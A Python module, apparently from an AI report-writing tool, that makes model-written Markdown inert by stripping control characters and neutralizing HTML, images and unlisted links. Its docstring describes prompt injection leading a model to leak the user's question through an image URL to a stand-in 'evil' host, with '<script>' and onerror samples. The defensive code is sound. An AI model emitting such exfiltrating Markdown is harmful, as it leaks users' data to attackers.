r"""Make model-written and page-derived Markdown inert before it leaves the run.

A model that follows text on a page it read can write active content into the report: an
image whose URL carries the question to an attacker (``![x](http://evil/?q=...)``), raw HTML
(``<img onerror>``, ``<script>``), a link to a page that is not one of the report's sources,
or terminal escapes that rewrite what ``cat report.md`` shows. :func:`inert_markdown` turns
each of these into plain text, outside code (code spans and fenced blocks are shown as text by
every Markdown viewer, so only their control characters go):

* terminal escapes and other control characters but tab and newline are removed, and so are
  bidirectional overrides (U+202A-202E, U+2066-2069);
* a raw HTML tag, comment or autolink (``<`` then a letter, ``/``, ``!`` or ``?``) has its
  ``<`` written ``&lt;``, which a viewer shows as ``<``;
* an image or link whose URL is not one of ``allowed`` (the report's references) becomes its
  text, and so does a link definition (``[x]: URL``);
* a bare ``http(s)://`` URL that is not allowed, or a ``www.`` address (which GitHub's
  Markdown links too), is put in a code span, so that no viewer turns it into a link.

Images become their text whatever their URL: a viewer loads an image without a click.

Those edits find their tokens with regular expressions, which a CommonMark parser need not
agree with (an escaped backtick, a code span across lines, a fence closed by a longer one, a
link definition inside a block quote). So the result is then parsed as CommonMark
(markdown-it-py) and checked: no raw HTML, no image, no link but to ``allowed``. Text that
fails the check is made inert another way, from the original: every character that can start
active content (``\``, backticks, ``<``, ``[``, ``!``) is escaped with a backslash outside
the code blocks the parser found, and, should the text still fail (escapes can change the
blocks), everywhere.

The edits are returned with the text, so that offsets into the original (the claims') can be
moved into the result (:meth:`Inert.moved`).
"""

from __future__ import annotations

import re
from bisect import bisect_right
from collections.abc import Collection
from dataclasses import dataclass, field
from functools import cache, lru_cache

from markdown_it import MarkdownIt
from markdown_it.token import Token

_CONTROL = re.compile(
    r"\x1b\[[0-?]*[ -/]*[@-~]"  # CSI: colours, cursor moves, erasing
    r"|\x1b\][^\x07\x1b]*(?:\x07|\x1b\\)?"  # OSC: titles, hyperlinks
    r"|[\x00-\x08\x0b-\x1f\x7f-\x9f]"  # other C0 and C1 controls (tab and newline stay)
    r"|[\u202a-\u202e\u2066-\u2069]"  # bidirectional overrides: text shown out of order
)

_NAME_CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f]")
"""Control characters of a file name, newlines and tabs included."""

_BARE_URL = r"\b(?:(?:https?|ftp)://|www\.)[^\s<>()\[\]`]*[^\s<>()\[\]`.,;:!?'\"*_]"
"""A URL written without Markdown around it (a ``www.`` address too: GitHub links those)."""

_TOKEN = re.compile(
    r"(?P<fence>^ {0,3}(?P<marks>```+|~~~+)[^\n]*\n(?:.*?\n)?? {0,3}(?P=marks)[ \t]*(?:\n|\Z))"
    r"|(?P<code>(?P<ticks>`+)[^`]+?(?P=ticks))"
    r"|(?P<image>!\[(?P<alt>[^\]\n]*)\]\((?P<src>[^)\s]*)(?:\s+\"[^\"\n]*\")?\))"
    r"|(?P<link>\[(?P<text>[^\]\n]*)\]\((?P<href>[^)\s]*)(?:\s+\"[^\"\n]*\")?\))"
    r"|(?P<definition>^ {0,3}\[(?!\^)[^\]\n]+\]:[ \t]*<?(?P<target>[^\s>]+)>?[^\n]*)"
    r"|(?P<tag><(?=[A-Za-z/!?]))"
    rf"|(?P<bare>{_BARE_URL})",
    re.MULTILINE | re.DOTALL,
)

_BARE = re.compile(_BARE_URL)


@dataclass(frozen=True)
class Edit:
    """One replacement: ``text[start:end]`` became ``replacement``."""

    start: int
    end: int
    replacement: str


@dataclass(frozen=True)
class Inert:
    """The inert text and the edits that made it from the original."""

    text: str
    edits: list[Edit] = field(default_factory=list)

    def moved(self, offset: int) -> int:
        """Where ``offset`` into the original lies in :attr:`text`.

        An offset inside a replaced stretch lands inside its replacement (at most at its end).
        """
        ends = [edit.end for edit in self.edits]
        before = bisect_right(ends, offset)
        shift = sum(len(e.replacement) - (e.end - e.start) for e in self.edits[:before])
        if before < len(self.edits) and self.edits[before].start < offset:
            edit = self.edits[before]
            return edit.start + shift + min(offset - edit.start, len(edit.replacement))
        return offset + shift


def strip_controls(text: str) -> str:
    """``text`` without terminal escapes or control characters (tab and newline kept)."""
    return _CONTROL.sub("", text)


def escaped_name(name: str) -> str:
    """A file name fit to print on one line: control characters (newlines too) escaped.

    A newline becomes backslash and ``n``: a name cannot forge a line of progress or of a
    report, nor send an escape sequence to a terminal, and escaped names still differ.
    """
    return _NAME_CONTROL.sub(lambda m: m[0].encode("unicode_escape").decode("ascii"), name)


def _replacement(match: re.Match[str], allowed: Collection[str]) -> str | None:
    """What a token becomes, or ``None`` when it stays as it is (controls aside)."""
    kind = match.lastgroup
    if kind in ("fence", "code"):
        return None
    if kind == "image":
        return match["alt"]
    if kind == "link":
        return None if match["href"] in allowed else match["text"]
    if kind == "definition":
        return None if match["target"] in allowed else "\\" + match[0].lstrip()
    if kind == "tag":
        return "&lt;"
    if kind == "bare":
        return None if match[0] in allowed else f"`{match[0]}`"
    return None  # pragma: no cover - every group is named above


def _applied(text: str, edits: list[Edit]) -> Inert:
    """``text`` with ``edits`` (in order, not overlapping) made."""
    pieces: list[str] = []
    last = 0
    for edit in edits:
        pieces.append(text[last : edit.start])
        pieces.append(edit.replacement)
        last = edit.end
    pieces.append(text[last:])
    return Inert("".join(pieces), edits)


def _tokenized(text: str, allowed: Collection[str]) -> Inert:
    """The edits of the module docstring's list, found by regular expressions."""
    edits: list[Edit] = []
    for match in _TOKEN.finditer(text):
        replacement = _replacement(match, allowed)
        original = match[0]
        if replacement is None:
            replacement = strip_controls(original)
        else:  # a link's or an image's text may hold more of the same
            replacement = inert_markdown(strip_controls(replacement), allowed).text
        if replacement != original:
            edits.append(Edit(match.start(), match.end(), replacement))
    edits.extend(
        Edit(m.start(), m.end(), "")
        for m in _CONTROL.finditer(text)
        if not any(e.start <= m.start() < e.end for e in edits)
    )
    edits.sort(key=lambda edit: edit.start)
    return _applied(text, edits)


@cache
def _parser() -> MarkdownIt:
    return MarkdownIt("commonmark")


def _tokens(tokens: list[Token]) -> list[Token]:
    """``tokens`` and the inline tokens inside them, in order."""
    found: list[Token] = []
    for token in tokens:
        found.append(token)
        found.extend(_tokens(token.children or []))
    return found


def live_content(text: str, allowed: Collection[str] = ()) -> list[str]:
    """What a CommonMark viewer would show of ``text`` as active: raw HTML, images, links.

    A link to one of ``allowed`` is not active content (a report cites its references).
    """
    live: list[str] = []
    targets: frozenset[str] | None = None  # worked out at the first link
    for token in _tokens(_parser().parse(text)):
        if token.type in ("html_block", "html_inline"):
            live.append(f"HTML {token.content!r}")
        elif token.type == "image":
            live.append(f"image {token.attrGet('src')!r}")
        elif token.type == "link_open":
            targets = _link_targets(frozenset(allowed)) if targets is None else targets
            if token.attrGet("href") not in targets:
                live.append(f"link {token.attrGet('href')!r}")
    return live


@lru_cache(maxsize=16)
def _link_targets(allowed: frozenset[str]) -> frozenset[str]:
    """``allowed`` as the parser writes a link's target, worked out once per set of URLs.

    A report's texts (its Markdown, each claim, each limitation ...) are all checked against
    its references: normalizing every reference's URL for each text took most of the time.
    """
    parser = _parser()
    return frozenset(parser.normalizeLink(url) for url in allowed)


_ACTIVE = frozenset("\\`<[!")
"""Characters that can start active content in CommonMark (with ``~`` fences, code only)."""


def _code_lines(text: str) -> set[int]:
    """The numbers of the lines that CommonMark reads as a code block (fenced or indented)."""
    lines: set[int] = set()
    for token in _parser().parse(text):
        if token.type in ("fence", "code_block") and token.map:
            lines.update(range(*token.map))
    return lines


def _escaped(text: str, allowed: Collection[str], *, keep_code: bool) -> Inert:
    """``text`` with controls removed and active characters escaped (see the docstring).

    With ``keep_code``, lines of code blocks are left as written. Bare URLs that are not
    ``allowed`` go in code spans as :func:`_tokenized` puts them.
    """
    code = _code_lines(strip_controls(text)) if keep_code else set()  # same lines: no \n goes
    edits: list[Edit] = []
    line, position = 0, 0
    bare = {m.start(): m for m in _BARE.finditer(text)}
    controls = {m.start(): m.end() for m in _CONTROL.finditer(text)}
    while position < len(text):
        char = text[position]
        if position in controls:
            edits.append(Edit(position, controls[position], ""))
            position = controls[position]
            continue
        if char == "\n":
            line += 1
        elif line not in code:
            url = bare.get(position)
            if url is not None:
                if url[0] not in allowed:
                    edits.append(Edit(position, url.end(), f"`{strip_controls(url[0])}`"))
                position = url.end()
                continue
            if char in _ACTIVE:
                edits.append(Edit(position, position + 1, "\\" + char))
        position += 1
    return _applied(text, edits)


def inert_markdown(text: str, allowed: Collection[str] = ()) -> Inert:
    """Make ``text`` inert (see the module docstring); ``allowed`` are the URLs it may show."""
    tokenized = _tokenized(text, allowed)
    if not live_content(tokenized.text, allowed):
        return tokenized
    escaped = _escaped(text, allowed, keep_code=True)
    if not live_content(escaped.text, allowed):
        return escaped
    return _escaped(text, allowed, keep_code=False)


def inert_text(text: str, allowed: Collection[str] = ()) -> str:
    """:func:`inert_markdown`'s text alone (a summary, a limitation, a claim)."""
    return inert_markdown(text, allowed).text


def inert_title(title: str) -> str:
    """A title on one line with no active content (a chat's, a report's H1).

    Its lines are joined first, then made inert: joined after, they could make new Markdown.
    """
    return inert_text(" ".join(strip_controls(title).split()))
